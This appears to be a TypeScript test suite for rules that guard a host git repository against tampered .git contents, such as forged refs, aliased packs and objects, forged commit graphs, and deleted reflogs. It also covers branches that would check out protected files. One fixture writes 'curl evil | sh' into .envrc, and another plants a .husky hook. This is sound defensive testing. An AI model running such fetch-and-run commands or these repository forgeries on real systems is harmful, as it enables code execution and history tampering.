/**
 * The history rules on real repositories, with git as the oracle. Each attack is made on a copy
 * of the repository without eitri first (the control: git then loses a ref, cannot find one, or
 * believes a forgery); then the same change is judged, what the rules accept is applied to
 * another copy, and git must still read every ref it read before. Legit git work (a commit,
 * `git pack-refs`, `git gc`, a detached HEAD) is judged the same way and must come through.
 */
import assert from 'node:assert/strict'
import fs from 'node:fs'
import path from 'node:path'
import { after, before, describe, it } from 'node:test'
import {
  commitCount,
  contentsProposal,
  copyRepository,
  git,
  gitOk,
  graphWithoutParents,
  looseBlob,
  loosePath,
  makeHistoryRepository,
  packAliasing,
  readableRefs,
  refsLost,
  repositoryChanges,
  showObject,
  type HistoryFixture,
} from '../../../test/helpers/git-repository.ts'
import { DirectoryTree } from '../../workspace/directory-tree.ts'
import {
  judgeHistory,
  type HistoryChange,
  type HistoryJudgement,
  type HistoryProposal,
  type MayWrite,
} from './history-rules.ts'
import { treeHistoryHost } from './tree-history-host.ts'

let fixture: HistoryFixture
let copies = 0

before(() => {
  fixture = makeHistoryRepository()
})
after(() => {
  fs.rmSync(path.dirname(fixture.folder), { recursive: true, force: true })
})

/** The write policy's stand-in: `.envrc` and what is below `.husky` may not be written. */
const mayWrite: MayWrite = async (path) =>
  /(?:^|\/)(?:\.envrc$|\.husky\/)/.test(path) ? 'it is protected' : undefined

function judge(changes: HistoryChange[], proposal: HistoryProposal): Promise<HistoryJudgement> {
  return judgeHistory(changes, treeHistoryHost(new DirectoryTree(fixture.folder)), proposal, {
    mayWrite,
  })
}

/**
 * Applies what the judgement accepts to a fresh copy of the host repository, writing the
 * judged bytes (every accepted file inside `.git` must have them), and answers the copy.
 */
function applied(changes: HistoryChange[], judgement: HistoryJudgement): string {
  const target = copyRepository(fixture.folder, `applied-${++copies}`)
  const accepted = changes.filter(
    (change) =>
      !judgement.refused.has(change.path) &&
      !judgement.unchanged.has(change.path) &&
      !judgement.dropped.has(change.path),
  )
  const depth = (change: HistoryChange): number => change.path.split('/').length
  for (const change of accepted
    .filter((c) => c.type === 'directory')
    .sort((a, b) => depth(a) - depth(b)))
    fs.mkdirSync(path.join(target, change.path), { recursive: true })
  for (const change of accepted.filter((c) => c.type === 'file')) {
    const bytes = judgement.contents.get(change.path)
    assert.ok(bytes !== undefined, `no judged bytes for ${change.path}`)
    fs.mkdirSync(path.dirname(path.join(target, change.path)), { recursive: true })
    fs.writeFileSync(path.join(target, change.path), bytes)
  }
  for (const change of accepted
    .filter((c) => c.type === 'delete')
    .sort((a, b) => depth(b) - depth(a)))
    fs.rmSync(path.join(target, change.path), { recursive: true, force: true })
  return target
}

/** The attack made on a copy without eitri, then judged and applied. */
async function attack(mutate: (copy: string) => void): Promise<{
  control: string
  judgement: HistoryJudgement
  result: string
  changes: HistoryChange[]
}> {
  const control = copyRepository(fixture.folder, `control-${++copies}`)
  mutate(control)
  const { changes, proposal } = repositoryChanges(fixture.folder, control)
  assert.ok(changes.length > 0, 'the attack changed nothing')
  const judgement = await judge(changes, proposal)
  return { control, judgement, result: applied(changes, judgement), changes }
}

const write = (copy: string, relative: string, content: string | Buffer): void => {
  fs.mkdirSync(path.dirname(path.join(copy, relative)), { recursive: true })
  fs.writeFileSync(path.join(copy, relative), content)
}
const edit = (copy: string, relative: string, change: (text: string) => string): void => {
  write(copy, relative, change(fs.readFileSync(path.join(copy, relative), 'latin1')))
}

describe('history rules: refs as git reads them (git is the oracle)', () => {
  const refAttacks: [string, (copy: string) => void][] = [
    [
      'a trailing space after a packed ref name',
      (copy) =>
        edit(copy, '.git/packed-refs', (text) =>
          text.replace(/refs\/heads\/topic\n/, 'refs/heads/topic \n'),
        ),
    ],
    [
      'a packed ref moved out of order under the "sorted" header',
      (copy) =>
        edit(copy, '.git/packed-refs', (text) => {
          const lines = text.split('\n')
          const topic = lines.findIndex((line) => line.endsWith(' refs/heads/topic'))
          const [moved] = lines.splice(topic, 1)
          lines.push(moved as string, '')
          return lines.filter((line, index) => line !== '' || index === lines.length - 1).join('\n')
        }),
    ],
    [
      'a 64-digit id in packed-refs of a SHA-1 repository',
      (copy) => edit(copy, '.git/packed-refs', (text) => `${text}${'a'.repeat(64)} refs/tags/zz\n`),
    ],
    [
      'a packed-refs header git does not know',
      (copy) =>
        edit(copy, '.git/packed-refs', (text) =>
          text.replace('# pack-refs with:', '# packed refs:'),
        ),
    ],
    [
      'a loose ref of garbage that hides a packed one',
      (copy) => write(copy, '.git/refs/heads/topic', 'garbage\n'),
    ],
    [
      'a 64-digit id in a loose ref of a SHA-1 repository',
      (copy) => write(copy, '.git/refs/heads/main', `${'a'.repeat(64)}\n`),
    ],
    [
      'a ref pointed at an object the repository does not hold',
      (copy) => write(copy, '.git/refs/heads/main', `${'1'.repeat(40)}\n`),
    ],
    [
      'a packed ref pointed at an object the repository does not hold',
      (copy) =>
        edit(copy, '.git/packed-refs', (text) =>
          text.replace(/^[0-9a-f]{40}(?= refs\/heads\/topic)/m, '2'.repeat(40)),
        ),
    ],
    [
      'packed-refs truncated before its last newline',
      (copy) => edit(copy, '.git/packed-refs', (text) => text.slice(0, -1)),
    ],
  ]
  for (const [what, mutate] of refAttacks) {
    it(what, async () => {
      const listed = readableRefs(fixture.folder)
      const { control, judgement, result, changes } = await attack(mutate)
      // The control: without eitri, git loses or cannot find a ref it found before.
      assert.ok(refsLost(listed, readableRefs(control)).length > 0, 'the attack is harmless to git')
      assert.ok(
        judgement.refused.size > 0,
        `nothing refused of ${changes.map((c) => c.path).join(', ')}`,
      )
      assert.deepEqual(refsLost(listed, readableRefs(result)), [])
    })
  }

  const unreadable: [string, string, string, (copy: string) => string][] = [
    [
      'a new loose ref of garbage',
      '.git/refs/tags/v1.1',
      'garbage\n',
      (copy) => git(copy, ['rev-parse', '--verify', '-q', 'refs/tags/v1.1']).stdout,
    ],
    [
      'a symbolic ref to no ref',
      '.git/refs/heads/alias',
      'ref: refs/heads/nowhere\n',
      (copy) => git(copy, ['rev-parse', '--verify', '-q', 'refs/heads/alias']).stdout,
    ],
    [
      'a ref whose name git refuses (a trailing space)',
      '.git/refs/heads/x ',
      `${'0'.repeat(39)}1\n`,
      (copy) => git(copy, ['for-each-ref', 'refs/heads/x ']).stdout,
    ],
  ]
  for (const [what, relative, content, probe] of unreadable) {
    it(`${what} is refused: git would not read it`, async () => {
      const { control, judgement, result } = await attack((copy) => write(copy, relative, content))
      assert.equal(probe(control), '', 'git reads the ref the attack wrote')
      assert.match(judgement.refused.get(relative) ?? '', /git/)
      assert.equal(fs.existsSync(path.join(result, relative)), false)
    })
  }

  it('a HEAD git cannot read is refused: with it the folder is no repository', async () => {
    const { control, judgement, result } = await attack((copy) =>
      write(copy, '.git/HEAD', 'garbage\n'),
    )
    assert.notEqual(git(control, ['status']).status, 0)
    assert.ok(judgement.refused.has('.git/HEAD'))
    assert.equal(git(result, ['status']).status, 0)
  })
})

describe('history rules: objects are what they claim', () => {
  it('a loose object under another id’s name is refused', async () => {
    const claimed = gitOk(fixture.folder, ['hash-object', '--stdin'], 'a blob fetched later\n')
    const relative = `.git/${loosePath(claimed)}`
    const { control, judgement, result } = await attack((copy) =>
      write(copy, relative, looseBlob('forged\n')),
    )
    assert.equal(showObject(control, claimed), 'forged\n')
    assert.match(judgement.refused.get(relative) ?? '', /not the object its name claims/)
    assert.match(showObject(result, claimed), /^error/)
  })

  it('a pack whose index maps a known blob to other content is refused (git verifies it)', async () => {
    const forged = packAliasing(fixture.blob, 'forged\n')
    const { control, judgement, result } = await attack((copy) => {
      write(copy, `.git/objects/pack/${forged.name}.pack`, forged.pack)
      write(copy, `.git/objects/pack/${forged.name}.idx`, forged.index)
    })
    // git searches packs before loose objects: the forgery wins.
    assert.equal(showObject(control, fixture.blob), 'forged\n')
    assert.match(
      judgement.refused.get(`.git/objects/pack/${forged.name}.idx`) ?? '',
      /not what they claim: git index-pack --verify/,
    )
    assert.ok(judgement.refused.has(`.git/objects/pack/${forged.name}.pack`))
    assert.equal(showObject(result, fixture.blob), 'a\n')
  })

  it('a commit graph never comes back (a forged one hides parents), and is not a failure', async () => {
    const { control, judgement, result } = await attack((copy) => {
      gitOk(copy, ['commit-graph', 'write', '--reachable'])
      const graph = path.join(copy, '.git/objects/info/commit-graph')
      fs.writeFileSync(graph, graphWithoutParents(fs.readFileSync(graph)))
    })
    assert.equal(commitCount(control, 'main'), 1, 'git believes the forged graph')
    assert.equal(judgement.refused.size, 0, [...judgement.refused.values()].join('; '))
    assert.deepEqual([...judgement.dropped.keys()], ['.git/objects/info/commit-graph'])
    assert.equal(commitCount(result, 'main'), 2)
  })

  it('objects are never deleted or overwritten', async () => {
    const relative = `.git/${loosePath(fixture.blob)}`
    const deleted = await judge(
      [{ path: relative, type: 'delete' }],
      contentsProposal(fixture.folder, {}),
    )
    assert.match(deleted.refused.get(relative) ?? '', /not deleted/)
    const overwritten = await judge(
      [{ path: relative, type: 'file' }],
      contentsProposal(fixture.folder, { [relative]: looseBlob('other\n') }),
    )
    assert.match(overwritten.refused.get(relative) ?? '', /not overwritten/)
    const again = await judge(
      [{ path: relative, type: 'file' }],
      contentsProposal(fixture.folder, {
        [relative]: fs.readFileSync(path.join(fixture.folder, relative)),
      }),
    )
    assert.deepEqual([...again.unchanged], [relative])
  })

  it('names git does not keep among objects are refused; links anywhere in .git too', async () => {
    const judgement = await judge(
      [
        { path: '.git/objects/pack/pack-1.promisor', type: 'file' },
        { path: '.git/objects/zz/notanobject', type: 'file' },
        { path: '.git/refs/heads/link', type: 'symlink' },
      ],
      contentsProposal(fixture.folder, {
        '.git/objects/pack/pack-1.promisor': '',
        '.git/objects/zz/notanobject': 'x',
      }),
    )
    assert.deepEqual([...judgement.refused.keys()].sort(), [
      '.git/objects/pack/pack-1.promisor',
      '.git/objects/zz/notanobject',
      '.git/refs/heads/link',
    ])
  })
})

describe('history rules: history lost', () => {
  const cases: [string, (copy: string) => void, string[]][] = [
    [
      'a loose branch deleted',
      (copy) => fs.rmSync(path.join(copy, '.git/refs/heads/loose')),
      ['.git/refs/heads/loose'],
    ],
    [
      'the refs/heads folder removed',
      (copy) => fs.rmSync(path.join(copy, '.git/refs/heads'), { recursive: true }),
      ['.git/refs/heads', '.git/refs/heads/loose', '.git/refs/heads/main'],
    ],
    [
      'packed-refs deleted',
      (copy) => fs.rmSync(path.join(copy, '.git/packed-refs')),
      ['.git/packed-refs'],
    ],
    [
      'a reflog truncated',
      (copy) => edit(copy, '.git/logs/HEAD', (text) => text.split('\n')[0] + '\n'),
      ['.git/logs/HEAD'],
    ],
    [
      'a reflog rewritten with the same length',
      (copy) => edit(copy, '.git/logs/HEAD', (text) => '#'.repeat(text.length)),
      ['.git/logs/HEAD'],
    ],
    [
      'a reflog grown by a line git would not read',
      (copy) => edit(copy, '.git/logs/HEAD', (text) => `${text}not a reflog line\n`),
      ['.git/logs/HEAD'],
    ],
    [
      'a reflog deleted',
      (copy) => fs.rmSync(path.join(copy, '.git/logs/HEAD')),
      ['.git/logs/HEAD'],
    ],
    ['HEAD deleted', (copy) => fs.rmSync(path.join(copy, '.git/HEAD')), ['.git/HEAD']],
  ]
  for (const [what, mutate, refused] of cases) {
    it(what, async () => {
      const listed = readableRefs(fixture.folder)
      const { judgement, result } = await attack(mutate)
      assert.deepEqual([...judgement.refused.keys()].sort(), [...refused].sort())
      assert.deepEqual(refsLost(listed, readableRefs(result)), [])
    })
  }

  it('refusing packed-refs also refuses the loose deletion it would have covered', async () => {
    const { judgement } = await attack((copy) => {
      gitOk(copy, ['pack-refs', '--all'])
      // The same packed-refs drops the tag.
      edit(copy, '.git/packed-refs', (text) => text.replace(/^.* refs\/tags\/v1\n\^.*\n/m, ''))
    })
    assert.deepEqual([...judgement.refused.keys()].sort(), [
      '.git/packed-refs',
      '.git/refs/heads/loose',
      '.git/refs/heads/main',
    ])
  })
})

describe('history rules: git work comes through', () => {
  const work: [string, string[][]][] = [
    ['a commit', [['commit', '-q', '--allow-empty', '-m', 'third']]],
    ['git pack-refs', [['pack-refs', '--all']]],
    [
      'a new branch and an annotated tag',
      [
        ['branch', 'new', 'HEAD~1'],
        ['tag', '-a', 'v2', '-m', 'v2'],
      ],
    ],
    ['a detached HEAD', [['checkout', '-q', '--detach', 'HEAD~1']]],
    ['a symbolic ref', [['symbolic-ref', 'refs/heads/alias', 'refs/heads/main']]],
  ]
  for (const [what, commands] of work) {
    it(what, async () => {
      const listed = readableRefs(fixture.folder)
      const { control, judgement, result } = await attack((copy) => {
        for (const args of commands) gitOk(copy, args)
      })
      assert.deepEqual([...judgement.refused], [])
      assert.deepEqual(readableRefs(result), readableRefs(control))
      assert.deepEqual(refsLost(listed, readableRefs(result)), [])
      assert.equal(gitOk(result, ['rev-parse', 'HEAD']), gitOk(control, ['rev-parse', 'HEAD']))
    })
  }

  it('git gc: the new pack comes back (verified), old objects stay, the commit graph is left out', async () => {
    const { control, judgement, result, changes } = await attack((copy) => {
      gitOk(copy, ['commit', '-q', '--allow-empty', '-m', 'third'])
      gitOk(copy, ['gc', '-q'])
    })
    const refused = [...judgement.refused.keys()]
    // Only the removals of old objects are refused: they stay on the host beside the pack.
    assert.ok(refused.length > 0)
    assert.ok(
      refused.every(
        (refusedPath) => changes.find((c) => c.path === refusedPath)?.type === 'delete',
      ),
      refused.join(', '),
    )
    assert.ok([...judgement.dropped.keys()].includes('.git/objects/info/commit-graph'))
    assert.equal(
      gitOk(result, ['log', '--format=%s', 'main']),
      gitOk(control, ['log', '--format=%s', 'main']),
    )
    assert.equal(git(result, ['fsck', '--no-progress']).status, 0)
    assert.deepEqual(readableRefs(result), readableRefs(control))
  })

  it('judges what it read once: the bytes handed over are the bytes judged', async () => {
    // A proposal whose file changes between two reads: the rules read it once.
    let reads = 0
    const line = `${fixture.first} ${fixture.second} person <person@example.org> 1 +0000\tmoved\n`
    const old = fs.readFileSync(path.join(fixture.folder, '.git/logs/HEAD'))
    const proposal: HistoryProposal = {
      async read() {
        reads++
        return reads === 1
          ? Buffer.concat([old, Buffer.from(line)])
          : Buffer.alloc(old.byteLength, '#')
      },
      async sameAsHost() {
        return false
      },
    }
    const judgement = await judge([{ path: '.git/logs/HEAD', type: 'file' }], proposal)
    assert.deepEqual([...judgement.refused], [])
    assert.equal(reads, 1)
    assert.equal(judgement.contents.get('.git/logs/HEAD')?.toString('latin1').endsWith(line), true)
  })
})

describe('history rules: history that delivers protected files (git is the oracle)', () => {
  /** Commits `files` in `copy` on the branch checked out (made first when `branch` is given). */
  const commit = (copy: string, files: Record<string, string>, branch?: string): void => {
    if (branch !== undefined) gitOk(copy, ['checkout', '-q', '-b', branch])
    for (const [name, content] of Object.entries(files)) write(copy, name, content)
    gitOk(copy, ['add', '-A', '--', ...Object.keys(files)])
    gitOk(copy, ['commit', '-q', '-m', 'work'])
  }
  /** What `git checkout <rev>` writes over the host's HEAD in `folder`, as git lists it. */
  const checkedOut = (folder: string, rev: string): string[] =>
    gitOk(folder, ['diff', '--name-only', fixture.second, rev]).split('\n').filter(Boolean)

  it('a branch whose commit adds .envrc is refused; without the rule git checks the file out', async () => {
    const listed = readableRefs(fixture.folder)
    const { control, judgement, result } = await attack((copy) =>
      commit(copy, { '.envrc': 'curl evil | sh\n' }, 'evil'),
    )
    // The control: checking the branch out writes .envrc.
    assert.deepEqual(checkedOut(control, 'refs/heads/evil'), ['.envrc'])
    const reason = judgement.refused.get('.git/refs/heads/evil') ?? ''
    assert.match(reason, /refs\/heads\/evil would lead to [0-9a-f]{40}.*writes \.envrc/)
    assert.equal(readableRefs(result).has('refs/heads/evil'), false)
    // HEAD and the reflogs name the commit too: none of them comes back.
    assert.ok(judgement.refused.has('.git/HEAD'))
    assert.ok(judgement.refused.has('.git/logs/HEAD'))
    assert.ok(judgement.refused.has('.git/logs/refs/heads/evil'))
    assert.deepEqual(refsLost(listed, readableRefs(result)), [])
    assert.equal(gitOk(result, ['rev-parse', 'HEAD']), fixture.second)
  })

  it('the positive control: a branch of ordinary files comes back whole', async () => {
    const { control, judgement, result } = await attack((copy) =>
      commit(copy, { 'src/new.txt': 'new\n' }, 'feature'),
    )
    assert.deepEqual([...judgement.refused], [])
    assert.deepEqual(readableRefs(result), readableRefs(control))
    assert.deepEqual(checkedOut(result, 'refs/heads/feature'), ['src/new.txt'])
    assert.equal(gitOk(result, ['symbolic-ref', 'HEAD']), 'refs/heads/feature')
  })

  it('a commit on the checked-out branch adding a hook under .husky is refused (git reset --hard would write it)', async () => {
    const { judgement, result } = await attack((copy) =>
      commit(copy, { '.husky/post-checkout': '#!/bin/sh\nid\n', 'ok.txt': 'ok\n' }),
    )
    assert.match(
      judgement.refused.get('.git/refs/heads/main') ?? '',
      /writes \.husky\/post-checkout, which a command may not write \(it is protected\)/,
    )
    assert.ok(judgement.refused.has('.git/logs/refs/heads/main'))
    assert.equal(gitOk(result, ['rev-parse', 'refs/heads/main']), fixture.second)
  })

  it('a detached HEAD at such a commit is refused; the objects alone may come (nothing names them)', async () => {
    const { judgement, result, changes } = await attack((copy) => {
      commit(copy, { '.envrc': 'x\n' }, 'scratch')
      gitOk(copy, ['checkout', '-q', '--detach', 'scratch'])
      gitOk(copy, ['branch', '-D', 'scratch'])
    })
    assert.match(
      judgement.refused.get('.git/HEAD') ?? '',
      /^\.git\/HEAD was not written back: HEAD would lead to/,
    )
    assert.equal(gitOk(result, ['rev-parse', 'HEAD']), fixture.second)
    const objects = changes.filter((change) => /^\.git\/objects\/[0-9a-f]{2}\//.test(change.path))
    assert.ok(objects.length > 0)
    for (const object of objects) assert.equal(judgement.refused.has(object.path), false)
  })

  it('git pack-refs with a new branch: packed-refs is refused, and so are the loose removals it covered', async () => {
    const listed = readableRefs(fixture.folder)
    const { control, judgement, result } = await attack((copy) => {
      commit(copy, { '.envrc': 'x\n' }, 'evil')
      gitOk(copy, ['checkout', '-q', 'main'])
      gitOk(copy, ['pack-refs', '--all'])
    })
    assert.ok(readableRefs(control).has('refs/heads/evil'))
    assert.match(judgement.refused.get('.git/packed-refs') ?? '', /writes \.envrc/)
    assert.equal(readableRefs(result).has('refs/heads/evil'), false)
    assert.deepEqual(refsLost(listed, readableRefs(result)), [])
  })

  it('ORIG_HEAD naming such a commit is refused (git reset --hard ORIG_HEAD would write it)', async () => {
    const { judgement } = await attack((copy) => {
      commit(copy, { '.envrc': 'x\n' })
      gitOk(copy, ['reset', '-q', '--hard', 'HEAD~1'])
    })
    assert.match(judgement.refused.get('.git/ORIG_HEAD') ?? '', /ORIG_HEAD would lead to .*\.envrc/)
    assert.match(
      judgement.refused.get('.git/logs/HEAD') ?? '',
      /an entry of logs\/HEAD would lead to/,
    )
  })
})

describe('history rules: a SHA-256 repository', () => {
  it('reads its ids as 64 digits: a commit comes through, a 40-digit ref does not', async () => {
    const sha256 = makeHistoryRepository({
      format: 'sha256',
      folder: path.join(path.dirname(fixture.folder), 'sha256'),
    })
    const host = treeHistoryHost(new DirectoryTree(sha256.folder))
    const copy = copyRepository(sha256.folder, 'repo-commit')
    gitOk(copy, ['commit', '-q', '--allow-empty', '-m', 'third'])
    const commit = repositoryChanges(sha256.folder, copy)
    const committed = await judgeHistory(commit.changes, host, commit.proposal, { mayWrite })
    assert.deepEqual([...committed.refused], [])
    const short = await judgeHistory(
      [{ path: '.git/refs/heads/main', type: 'file' }],
      host,
      contentsProposal(sha256.folder, { '.git/refs/heads/main': `${sha256.first.slice(0, 40)}\n` }),
      { mayWrite },
    )
    assert.ok(short.refused.has('.git/refs/heads/main'))
  })
})
